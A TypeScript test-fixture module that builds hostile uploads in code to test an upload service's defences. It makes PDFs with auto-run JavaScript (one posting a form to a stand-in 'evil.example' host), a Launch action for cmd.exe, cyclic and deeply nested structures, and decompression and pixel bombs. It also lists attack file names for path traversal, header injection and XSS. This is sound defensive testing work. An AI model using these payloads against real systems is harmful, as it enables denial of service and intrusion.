/**
 * Hostile uploads, built in code (pdf-lib, raw PDF syntax, hand-made image headers) so no binary
 * attack file is ever committed. Each builder says what it is and why it is hostile.
 */
import { crc32, createDeflate, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import sharp from 'sharp';

/** A normal one-page text PDF (the base that the hostile variants add to). */
async function basePdf(lines: string[] = ['Certificate of Completion', 'Hostile Input Academy']) {
  const doc = await PDFDocument.create({ updateMetadata: false });
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([595, 842]);
  [...lines, `ref ${Math.random().toString(36).slice(2)}`].forEach((l, i) => page.drawText(l, { x: 50, y: 780 - i * 24, size: 14, font }));
  return doc;
}

/** /OpenAction runs JavaScript when the file is opened. Saved with object streams (the action is compressed). */
export async function pdfWithOpenActionJavaScript(): Promise<Uint8Array> {
  const doc = await basePdf();
  const action = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("pwned")') });
  doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
  return doc.save({ useObjectStreams: true });
}

/** Document-level JavaScript in the /Names tree (runs on open in Acrobat), classic xref layout. */
export async function pdfWithNamedJavaScript(): Promise<Uint8Array> {
  const doc = await basePdf();
  const action = doc.context.register(doc.context.obj({ S: 'JavaScript', JS: PDFString.of('this.submitForm("https://evil.example")') }));
  const tree = doc.context.obj({ Names: [PDFString.of('init'), action] });
  doc.catalog.set(PDFName.of('Names'), doc.context.obj({ JavaScript: doc.context.register(tree) }));
  return doc.save({ useObjectStreams: false });
}

/** /OpenAction with /Launch: asks the viewer to start a program. */
export async function pdfWithLaunchAction(): Promise<Uint8Array> {
  const doc = await basePdf();
  const action = doc.context.obj({ S: 'Launch', F: PDFString.of('cmd.exe'), Win: { F: PDFString.of('cmd.exe'), P: PDFString.of('/c calc') } });
  doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
  return doc.save();
}

/** An attachment (/EmbeddedFiles name tree + /EmbeddedFile stream), e.g. a payload riding along. */
export async function pdfWithEmbeddedFile(): Promise<Uint8Array> {
  const doc = await basePdf();
  await doc.attach(Buffer.from('MZ pretend this is a program'), 'invoice.exe', { mimeType: 'application/octet-stream', description: 'attachment' });
  return doc.save();
}

/** `pages` pages sharing one content stream: a valid PDF, small on disk, huge to process. */
export async function pdfWithPages(pages: number): Promise<Uint8Array> {
  const doc = await basePdf();
  const first = doc.getPage(0);
  const contents = first.node.get(PDFName.of('Contents'))!;
  const resources = first.node.get(PDFName.of('Resources'))!;
  for (let p = 1; p < pages; p++) {
    const page = doc.addPage([595, 842]);
    page.node.set(PDFName.of('Contents'), contents);
    page.node.set(PDFName.of('Resources'), resources);
  }
  return doc.save({ objectsPerTick: Infinity });
}

/** A real PDF cut in the middle of its content stream: no xref, no trailer, no %%EOF. */
export async function truncatedPdf(): Promise<Uint8Array> {
  const bytes = await (await basePdf()).save({ useObjectStreams: false });
  const raw = Buffer.from(bytes).toString('latin1');
  const streamAt = raw.indexOf('stream\n', raw.indexOf('/Length'));
  return bytes.subarray(0, streamAt + 20);
}

/**
 * A PDF from raw object bodies (object n = bodies[n-1]) with a correct classic xref, so only what
 * the test means to break is broken. `trailer` is added to the trailer dictionary.
 */
export function rawPdf(bodies: string[], opts: { trailer?: string; root?: number; xref?: (offsetOfXref: number) => string } = {}): Uint8Array {
  let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  bodies.forEach((body, i) => {
    offsets.push(out.length);
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xrefAt = out.length;
  if (opts.xref) out += opts.xref(xrefAt);
  else {
    out += `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n`;
    for (const o of offsets) out += `${String(o).padStart(10, '0')} 00000 n \n`;
    out += `trailer\n<< /Size ${bodies.length + 1} /Root ${opts.root ?? 1} 0 R ${opts.trailer ?? ''} >>\n`;
  }
  out += `startxref\n${xrefAt}\n%%EOF\n`;
  return new Uint8Array(Buffer.from(out, 'latin1'));
}

const CONTENT = 'BT /F1 24 Tf 50 700 Td (Certificate of Completion) Tj ET';
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const stream = (s: string) => `<< /Length ${s.length} >>\nstream\n${s}\nendstream`;

/** The page tree's /Kids contains the /Pages node itself (a reader walking it never ends). */
export function pdfPagesCycle(): Uint8Array {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    stream(CONTENT),
    FONT,
  ]);
}

/** Two intermediate /Pages nodes that are each other's kid and parent. */
export function pdfParentLoop(): Uint8Array {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [6 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 6 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    stream(CONTENT),
    FONT,
    '<< /Type /Pages /Parent 7 0 R /Kids [3 0 R 7 0 R] /Count 1 >>',
    '<< /Type /Pages /Parent 6 0 R /Kids [6 0 R] /Count 1 >>',
  ]);
}

/** A page whose /Parent chain loops (page → 3 → 4 → 3 …) though the tree from the root is finite. */
export function pdfPageParentCycle(): Uint8Array {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [5 0 R] /Count 1 >>',
    '<< /Type /Pages /Parent 4 0 R /Kids [] /Count 0 >>',
    '<< /Type /Pages /Parent 3 0 R /Kids [] /Count 0 >>',
    '<< /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] /Contents 6 0 R /Resources << /Font << /F1 7 0 R >> >> >>',
    stream(CONTENT),
    FONT,
  ]);
}

/** A trailer whose /Prev points at its own xref section (readers following /Prev loop forever). */
export function pdfXrefPrevLoop(): Uint8Array {
  const bodies = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    stream(CONTENT),
    FONT,
  ];
  // Offsets are recomputed inside xref() from the layout rawPdf writes.
  let offsets: number[] = [];
  let text = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  bodies.forEach((b, i) => {
    offsets.push(text.length);
    text += `${i + 1} 0 obj\n${b}\nendobj\n`;
  });
  return rawPdf(bodies, {
    xref: (at) =>
      `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}` +
      `trailer\n<< /Size ${bodies.length + 1} /Root 1 0 R /Prev ${at} >>\n`,
  });
}

/** An object nested `depth` arrays deep (recursive-descent parsers overflow their stack). */
export function pdfDeepArrays(depth = 100_000): Uint8Array {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R /Deep 6 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    stream(CONTENT),
    FONT,
    '['.repeat(depth) + ']'.repeat(depth),
  ]);
}

/** The same with dictionaries: << /A << /A << … >> >> >>. */
export function pdfDeepDicts(depth = 50_000): Uint8Array {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R /Deep 6 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    stream(CONTENT),
    FONT,
    '<< /A '.repeat(depth) + '>> '.repeat(depth),
  ]);
}

/** A page tree whose /Count says 1 while it holds `pages` pages (readers trusting /Count are fooled). */
export function pdfLyingCount(pages = 5000): Uint8Array {
  const kids = Array.from({ length: pages }, () => '3 0 R').join(' ');
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count 1 >>`,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    stream(CONTENT),
    FONT,
  ]);
}

// ---- images -------------------------------------------------------------------------------------

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const td = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(td) >>> 0);
  return Buffer.concat([len, td, crc]);
}

function ihdr(width: number, height: number): Buffer {
  const h = Buffer.alloc(13);
  h.writeUInt32BE(width, 0);
  h.writeUInt32BE(height, 4);
  h[8] = 8; // bit depth
  h[9] = 0; // greyscale
  return h;
}

const PNG_SIG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A PNG header claiming width × height with a few bytes of pixel data (a lie in the header). */
export function pngHeaderBomb(width = 100_000, height = 100_000): Uint8Array {
  return new Uint8Array(Buffer.concat([PNG_SIG, pngChunk('IHDR', ihdr(width, height)), pngChunk('IDAT', deflateSync(Buffer.alloc(1024))), pngChunk('IEND', Buffer.alloc(0))]));
}

/**
 * A real pixel bomb: a complete, valid greyscale PNG of width × height black pixels. Deflate packs
 * ~1000:1, so 20 000 × 20 000 (400 Mpx, 400 MB decoded) is ~400 KB. Built by streaming, so the
 * test process never holds the decoded image either.
 */
export async function pngPixelBomb(width = 20_000, height = 20_000): Promise<Uint8Array> {
  const row = Buffer.alloc(width + 1); // filter byte 0 + black pixels
  const deflate = createDeflate({ level: 9 });
  const parts: Buffer[] = [];
  deflate.on('data', (c: Buffer) => parts.push(c));
  const done = new Promise<void>((r) => deflate.on('end', () => r()));
  for (let y = 0; y < height; y++) {
    if (!deflate.write(row)) await new Promise((r) => deflate.once('drain', r));
  }
  deflate.end();
  await done;
  return new Uint8Array(Buffer.concat([PNG_SIG, pngChunk('IHDR', ihdr(width, height)), pngChunk('IDAT', Buffer.concat(parts)), pngChunk('IEND', Buffer.alloc(0))]));
}

/** A small real JPEG whose SOF header is rewritten to claim 65 000 × 65 000 pixels. */
export async function jpegHeaderBomb(): Promise<Uint8Array> {
  const jpg = Buffer.from(await sharp({ create: { width: 16, height: 16, channels: 3, background: '#888' } }).jpeg().toBuffer());
  for (let i = 2; i + 9 < jpg.length; ) {
    const marker = jpg[i + 1];
    if (marker >= 0xc0 && marker <= 0xc2) {
      jpg.writeUInt16BE(65_000, i + 5); // height
      jpg.writeUInt16BE(65_000, i + 7); // width
      return new Uint8Array(jpg);
    }
    i += 2 + jpg.readUInt16BE(i + 2);
  }
  throw new Error('no SOF marker');
}

/** A small real lossy WEBP whose VP8 frame header claims 16 383 × 16 383 pixels (the format's maximum). */
export async function webpHeaderBomb(): Promise<Uint8Array> {
  const webp = Buffer.from(await sharp({ create: { width: 16, height: 16, channels: 3, background: '#888' } }).webp({ lossless: false }).toBuffer());
  const at = webp.indexOf(Buffer.from([0x9d, 0x01, 0x2a])); // VP8 start code; width and height follow
  if (webp.toString('latin1', 12, 16) !== 'VP8 ' || at < 0) throw new Error('not a simple lossy WEBP');
  webp.writeUInt16LE(16_383, at + 3);
  webp.writeUInt16LE(16_383, at + 5);
  return new Uint8Array(webp);
}

/**
 * An animated GIF or WEBP of `frames` copies of one flat width × height frame. Each frame is within
 * the per-image limit; together they need not be: 12 frames of 2000 × 2000 are 48 Mpx to decode, in
 * a file of a few KB. Encoded once by sharp as a still image, then the frame is repeated in the
 * animation container by hand (so building the attack never decodes all the frames either).
 */
export async function animatedImage(format: 'gif' | 'webp', width: number, height: number, frames: number): Promise<Uint8Array> {
  const still = sharp({ create: { width, height, channels: 3, background: '#3366cc' } });
  return format === 'gif' ? animatedGif(await still.gif().toBuffer(), frames) : animatedWebp(await still.webp({ lossless: false }).toBuffer(), width, height, frames);
}

/** GIF89a: header and colour table of the still, a looping extension, then `frames` × (delay + image). */
function animatedGif(still: Buffer, frames: number): Uint8Array {
  let at = 13 + (still[10] & 0x80 ? 3 * 2 ** ((still[10] & 7) + 1) : 0);
  const head = still.subarray(0, at);
  const skipSubBlocks = (i: number) => {
    while (still[i] !== 0) i += still[i] + 1;
    return i + 1;
  };
  while (still[at] === 0x21) at = skipSubBlocks(at + 2); // extensions of the still
  if (still[at] !== 0x2c) throw new Error('no image descriptor');
  const descriptor = still[at + 9];
  const dataAt = at + 10 + (descriptor & 0x80 ? 3 * 2 ** ((descriptor & 7) + 1) : 0);
  const image = still.subarray(at, skipSubBlocks(dataAt + 1));
  const loop = Buffer.from([0x21, 0xff, 0x0b, ...Buffer.from('NETSCAPE2.0', 'latin1'), 0x03, 0x01, 0x00, 0x00, 0x00]);
  const delay = Buffer.from([0x21, 0xf9, 0x04, 0x00, 0x0a, 0x00, 0x00, 0x00]);
  return new Uint8Array(Buffer.concat([head, loop, ...Array.from({ length: frames }, () => [delay, image]).flat(), Buffer.from([0x3b])]));
}

/** Extended WEBP: VP8X (animation flag), ANIM, then `frames` ANMF chunks each holding the still's bitstream. */
function animatedWebp(still: Buffer, width: number, height: number, frames: number): Uint8Array {
  const bitstream = still.subarray(12); // the still's 'VP8 ' chunk (fourcc, size, data, padding)
  if (bitstream.toString('latin1', 0, 4) !== 'VP8 ') throw new Error('not a simple lossy WEBP');
  const u24 = (v: number) => Buffer.from([v & 0xff, (v >> 8) & 0xff, (v >> 16) & 0xff]);
  const chunk = (fourcc: string, data: Buffer) => {
    const size = Buffer.alloc(4);
    size.writeUInt32LE(data.length);
    return Buffer.concat([Buffer.from(fourcc, 'latin1'), size, data, data.length % 2 ? Buffer.alloc(1) : Buffer.alloc(0)]);
  };
  const vp8x = chunk('VP8X', Buffer.concat([Buffer.from([0x02, 0, 0, 0]), u24(width - 1), u24(height - 1)]));
  const anim = chunk('ANIM', Buffer.from([0, 0, 0, 0, 0, 0]));
  const frame = chunk('ANMF', Buffer.concat([u24(0), u24(0), u24(width - 1), u24(height - 1), u24(100), Buffer.from([0]), bitstream]));
  const body = Buffer.concat([Buffer.from('WEBP', 'latin1'), vp8x, anim, ...Array(frames).fill(frame)]);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(body.length);
  return new Uint8Array(Buffer.concat([Buffer.from('RIFF', 'latin1'), size, body]));
}

/** A real PNG (so a name ending in .pdf lies about it). */
export async function smallPng(): Promise<Uint8Array> {
  return new Uint8Array(await sharp({ create: { width: 40, height: 30, channels: 3, background: '#3366cc' } }).png().toBuffer());
}

/** A name with a NUL byte (C string terminator: "diploma.pdf" to some code, ".exe" to other). */
export const NUL_NAME = 'diploma.pdf\u0000.exe';

/** Upload names that attack paths, terminals and headers. */
export const HOSTILE_NAMES: Record<string, string> = {
  'parent traversal': '../../etc/passwd.pdf',
  'windows traversal': '..\\..\\boot.ini.pdf',
  'absolute path': '/etc/shadow.pdf',
  'windows absolute path': 'C:\\Windows\\System32\\drivers\\etc\\hosts.pdf',
  '1,000 characters': `${'a'.repeat(996)}.pdf`,
  'RTL override': '\u202Efdp.exe',
  'quotes and newlines': 'evil";\r\nSet-Cookie: pwned=1; x=".pdf',
  'header injection only': 'a\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>.pdf',
  'dots only': '....pdf',
  'HTML': '<img src=x onerror=alert(1)>.pdf',
};

// ---- decompression bombs ---------------------------------------------------------------------------

/**
 * A PDF decompression bomb: one page whose FlateDecode content stream inflates to a single string
 * literal of `inflatedBytes` letters (`(AAAA…) Tj`). 300 MB inflated is ~300 KB on disk; a reader
 * that decodes and tokenises the stream (pdfjs text extraction) builds a string that size, on the
 * thread it runs on. The default is the red team's: ~1.5 billion characters in ~1.46 MB.
 */
export async function pdfFlateBomb(inflatedBytes = 1_500_000_000): Promise<Uint8Array> {
  const head = Buffer.from('BT /F1 12 Tf 50 700 Td (', 'latin1');
  const tail = Buffer.from(') Tj ET', 'latin1');
  // One zlib stream written in pieces, so the test process never holds the inflated content.
  const deflate = createDeflate({ level: 9 });
  const parts: Buffer[] = [];
  deflate.on('data', (c: Buffer) => parts.push(c));
  const done = new Promise<void>((r) => deflate.on('end', () => r()));
  const write = async (b: Buffer) => {
    if (!deflate.write(b)) await new Promise((r) => deflate.once('drain', r));
  };
  await write(head);
  const block = Buffer.alloc(1024 * 1024, 0x41);
  for (let left = inflatedBytes; left > 0; left -= block.length) await write(left >= block.length ? block : block.subarray(0, left));
  await write(tail);
  deflate.end();
  await done;
  const data = Buffer.concat(parts);
  const before = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
  ];
  // rawPdf takes text bodies; the stream's bytes are binary, so this file is assembled by hand.
  const chunks: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let at = chunks[0].length;
  const add = (b: Buffer) => {
    chunks.push(b);
    at += b.length;
  };
  before.forEach((body, i) => {
    offsets.push(at);
    add(Buffer.from(`${i + 1} 0 obj\n${body}\nendobj\n`, 'latin1'));
  });
  offsets.push(at);
  add(Buffer.from(`4 0 obj\n<< /Length ${data.length} /Filter /FlateDecode >>\nstream\n`, 'latin1'));
  add(data);
  add(Buffer.from('\nendstream\nendobj\n', 'latin1'));
  offsets.push(at);
  add(Buffer.from(`5 0 obj\n${FONT}\nendobj\n`, 'latin1'));
  const xrefAt = at;
  let xref = `xref\n0 6\n0000000000 65535 f \n`;
  for (const o of offsets) xref += `${String(o).padStart(10, '0')} 00000 n \n`;
  xref += `trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  add(Buffer.from(xref, 'latin1'));
  return new Uint8Array(Buffer.concat(chunks));
}

/**
 * A valid one-page PDF that also holds one array of `count` numbers (two bytes each): nothing in it
 * is too large, too deep or damaged, yet parsing it is seconds of synchronous work (pdf-lib: ~4 s for
 * 4.9M numbers on a 2-core machine) — the upload's checks must not run that on the server's event loop.
 */
export function pdfSlowToParse(count = 4_900_000): Uint8Array {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    stream(CONTENT),
    FONT,
    `[${'0 '.repeat(count)}]`,
  ]);
}

/**
 * A 2000 × 2000 PNG of one colour: 19 KB, and 4 Mpx that the conversion to PDF decodes and deflates
 * in JavaScript (pdf-lib: ~0.5 s). Each upload of it again is a duplicate, refused after that work.
 */
export async function pngCheapToSendSlowToConvert(): Promise<Uint8Array> {
  return new Uint8Array(await sharp({ create: { width: 2000, height: 2000, channels: 4, background: '#ffffff' } }).png().toBuffer());
}
